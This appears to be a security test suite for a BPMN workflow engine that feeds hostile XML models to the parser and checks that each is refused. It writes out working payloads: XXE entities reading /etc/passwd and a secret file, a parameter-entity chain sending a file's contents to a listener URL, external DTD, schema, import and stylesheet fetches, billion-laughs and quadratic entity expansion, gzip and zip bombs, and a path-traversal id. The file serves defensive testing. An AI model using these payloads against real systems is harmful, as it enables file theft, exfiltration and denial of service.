"""Attempts with the XML of a model: reading files, reaching the network, blowing up while it is read."""

import io
import select
import socket
import tempfile
import zipfile
import zlib
from collections.abc import Iterator
from pathlib import Path
from typing import Any

from tests.core.sketch import HEAD, bpmn
from tests.hostile.attempts import attempt, findings_text, refused_model, refused_or_runs, runs_into_an_incident

PLAIN = "start s\nend e\ns -> e"
SECRET = "the-contents-of-a-file"


def process(inside: str, before: str = "", head: str = HEAD) -> bytes:
    return f'{before}{head}<process id="p" isExecutable="true">{inside}</process></definitions>'.encode()


STRAIGHT = (
    '<startEvent id="s"/><endEvent id="e"/><sequenceFlow id="f" sourceRef="s" targetRef="e"/>'  # the smallest process there is
)


def documented(text: str, before: str = "") -> bytes:
    return process(f"<documentation>{text}</documentation>{STRAIGHT}", before)


def leaks_nothing(make: str) -> str:
    """``make`` has ``{path}`` where the address of a file with a secret goes."""
    with tempfile.TemporaryDirectory() as folder:
        path = Path(folder) / "secret"
        path.write_text(SECRET)
        source = make.replace("{path}", str(path)).encode()
        assert SECRET not in findings_text(source)
        return refused_model(source)


def reaches_nobody(make: str) -> str:
    """``make`` has ``{address}`` where the address of a listener goes; nobody may knock there."""
    with socket.socket() as listener:
        listener.bind(("127.0.0.1", 0))
        listener.listen()
        address = f"http://127.0.0.1:{listener.getsockname()[1]}/evil"
        outcome = refused_model(make.replace("{address}", address).encode())
        assert not select.select([listener], [], [], 0)[0], "the network was reached"
        return outcome


@attempt("xxe-reads-a-file")
def _(url: str) -> str:
    return leaks_nothing(documented("&x;", '<!DOCTYPE d [<!ENTITY x SYSTEM "file://{path}">]>').decode())


@attempt("xxe-through-a-parameter-entity")
def _(url: str) -> str:
    return leaks_nothing(documented("", '<!DOCTYPE d [<!ENTITY % x SYSTEM "file://{path}"> %x;]>').decode())


@attempt("xxe-in-an-attribute")
def _(url: str) -> str:
    source = process(STRAIGHT.replace('id="s"', 'id="s" name="&x;"'), '<!DOCTYPE d [<!ENTITY x SYSTEM "file://{path}">]>')
    return leaks_nothing(source.decode())


@attempt("xxe-hidden-in-utf-16")
def _(url: str) -> str:
    text = documented("&x;", '<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]>')
    source = text.decode().encode("utf-16")
    assert "root:" not in findings_text(source)
    return refused_model(source)


@attempt("xxe-hidden-in-utf-7")
def _(url: str) -> str:
    text = documented("&x;", '<?xml version="1.0" encoding="UTF-7"?><!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]>')
    return refused_model(text.decode().encode("utf-7"))


@attempt("external-dtd-over-http")
def _(url: str) -> str:
    return reaches_nobody(documented("", '<!DOCTYPE d SYSTEM "{address}.dtd">').decode())


@attempt("entity-over-http")
def _(url: str) -> str:
    return reaches_nobody(documented("&x;", '<!DOCTYPE d [<!ENTITY x SYSTEM "{address}">]>').decode())


@attempt("parameter-entity-sends-a-file-out")
def _(url: str) -> str:
    sends = '<!ENTITY % f SYSTEM "file:///etc/hostname"><!ENTITY % e "<!ENTITY s SYSTEM \'{address}?%f;\'>">%e;'
    return reaches_nobody(documented("&s;", f"<!DOCTYPE d [{sends}]>").decode())


@attempt("external-schema-location")
def _(url: str) -> str:
    location = 'xsi:schemaLocation="http://www.omg.org/spec/BPMN/20100524/MODEL {address}.xsd" name="{broken'
    source = process("<startEvent/>", head=HEAD.replace('id="definitions"', 'id="definitions" ' + location + '"'))
    return reaches_nobody(source.decode())


@attempt("bpmn-import-from-the-network")
def _(url: str) -> str:
    imports = '<import importType="http://www.omg.org/spec/BPMN/20100524/MODEL" location="{address}" namespace="urn:x"/>'
    return reaches_nobody(f'{HEAD}{imports}<process id="p" isExecutable="true"><startEvent id="s"/></process></definitions>')


@attempt("style-sheet-instruction-over-http")
def _(url: str) -> str:
    return reaches_nobody(process("<startEvent/>", '<?xml-stylesheet type="text/xsl" href="{address}"?>').decode())


@attempt("xinclude-reads-a-file")
def _(url: str) -> str:
    include = '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file://{path}" parse="text"/>'
    return leaks_nothing(process(f"{include}{STRAIGHT}").decode())


@attempt("billion-laughs")
def _(url: str) -> str:
    laughs = "".join(f'<!ENTITY l{n + 1} "{f"&l{n};" * 10}">' for n in range(12))
    return refused_model(documented("&l12;", f'<!DOCTYPE d [<!ENTITY l0 "ha">{laughs}]>'))


@attempt("quadratic-entity-blowup")
def _(url: str) -> str:
    return refused_model(documented("&a;" * 50_000, f'<!DOCTYPE d [<!ENTITY a "{"a" * 100_000}">]>'))


@attempt("entity-that-contains-itself")
def _(url: str) -> str:
    return refused_model(documented("&a;", '<!DOCTYPE d [<!ENTITY a "&b;"><!ENTITY b "&a;">]>'))


@attempt("xml-nested-100000-deep")
def _(url: str) -> str:
    return refused_model(
        process("<extensionElements>" + "<a>" * 100_000 + "</a>" * 100_000 + "</extensionElements>" + STRAIGHT)
    )


@attempt("xml-nested-200-deep")
def _(url: str) -> str:
    inside = '<a xmlns="urn:a">' * 200 + "</a>" * 200
    return refused_model(process(f"<extensionElements>{inside}</extensionElements>{STRAIGHT}"), "too-deep")


@attempt("100000-boundary-events")
def _(url: str) -> str:
    events = "".join(f'<boundaryEvent id="b{n}" attachedToRef="s"/>' for n in range(100_000))
    return refused_model(process(events + STRAIGHT), "file-too-large")


@attempt("30000-boundary-events-in-2-megabytes")
def _(url: str) -> str:
    events = "".join(f'<boundaryEvent id="b{n}" attachedToRef="s"/>' for n in range(30_000))
    return refused_model(process(events + STRAIGHT), "too-many-elements")


@attempt("990-boundary-events-on-one-task")
def _(url: str) -> str:
    lines = "".join(f"boundary b{n} on=u duration=P1D\nend e{n}\nb{n} -> e{n}\n" for n in range(990))
    return refused_or_runs(url, f"start s\nuser u groups=g\nend e\ns -> u -> e\n{lines}")


@attempt("100000-sequence-flows")
def _(url: str) -> str:
    flows = "".join(f'<sequenceFlow id="g{n}" sourceRef="s" targetRef="e"/>' for n in range(100_000))
    return refused_model(process(STRAIGHT + flows), "file-too-large")


@attempt("25000-sequence-flows-between-two-elements")
def _(url: str) -> str:
    flows = "".join(f'<sequenceFlow id="g{n}" sourceRef="s" targetRef="e"/>' for n in range(25_000))
    return refused_model(process(STRAIGHT + flows))


@attempt("20000-sequence-flows-out-of-a-gateway")
def _(url: str) -> str:
    flows = "x -> y\n" * 20_000
    source = bpmn(f"start s\nparallel x\nparallel y\nend e\ns -> x\ny -> e\n{flows}").replace(b'id="x_y"', b'id="x_y%d"')
    numbered = source % tuple(range(20_000))
    try:
        return refused_model(numbered)
    except AssertionError:
        return runs_into_an_incident(url, numbered)


@attempt("attribute-of-10-megabytes")
def _(url: str) -> str:
    return refused_model(process(STRAIGHT.replace('id="s"', f'id="s" name="{"x" * 10_000_000}"')), "file-too-large")


@attempt("100000-attributes-on-one-element")
def _(url: str) -> str:
    many = " ".join(f'a{n}="1"' for n in range(100_000))
    return refused_model(process(STRAIGHT.replace('id="s"', f'id="s" {many}')))


@attempt("100000-namespaces")
def _(url: str) -> str:
    many = " ".join(f'xmlns:n{n}="urn:{n}"' for n in range(50_000))
    return refused_model(process("<startEvent/>", head=HEAD.replace("<definitions", f"<definitions {many}")))


@attempt("gzip-bomb-as-a-model")
def _(url: str) -> str:
    packer = zlib.compressobj(9, zlib.DEFLATED, 31)
    return refused_model(packer.compress(b"<a>") + b"".join(_bomb(packer)), "not-xml")


@attempt("zip-bomb-as-a-model")
def _(url: str) -> str:
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w", zipfile.ZIP_DEFLATED) as archive, archive.open("p.bpmn", "w") as file:
        for _ in range(100):
            file.write(b" " * 1_000_000)
    return refused_model(packed.getvalue(), "not-xml")


def _bomb(packer: Any) -> Iterator[bytes]:
    for _ in range(200):
        yield packer.compress(b" " * 1_000_000)
    yield packer.flush()


@attempt("bytes-that-are-no-unicode")
def _(url: str) -> str:
    return refused_model(process(STRAIGHT).replace(b'id="s"', b'id="s" name="\xed\xa0\x80\xff"'), "not-xml")


@attempt("nul-in-the-model")
def _(url: str) -> str:
    return refused_model(process(STRAIGHT).replace(b'id="s"', b'id="s" name="a\x00b"'), "not-xml")


@attempt("nul-by-character-reference")
def _(url: str) -> str:
    return refused_model(process(STRAIGHT.replace('id="s"', 'id="s" name="&#0;&#xD800;"')), "not-xml")


@attempt("one-id-twice")
def _(url: str) -> str:
    return refused_model(process(STRAIGHT.replace('id="e"', 'id="s"')))


@attempt("id-that-is-a-path")
def _(url: str) -> str:
    return refused_model(bpmn(PLAIN, "../../etc/cron.d/p"))


@attempt("id-with-right-to-left-marks")
def _(url: str) -> str:
    return refused_model(bpmn(PLAIN, "p\u202egnp.exe"))


@attempt("empty-file")
def _(url: str) -> str:
    return refused_model(b"", "not-xml")


@attempt("not-bpmn-at-all")
def _(url: str) -> str:
    return refused_model(b"\x7fELF" + b"\x00" * 1_000_000, "not-xml")
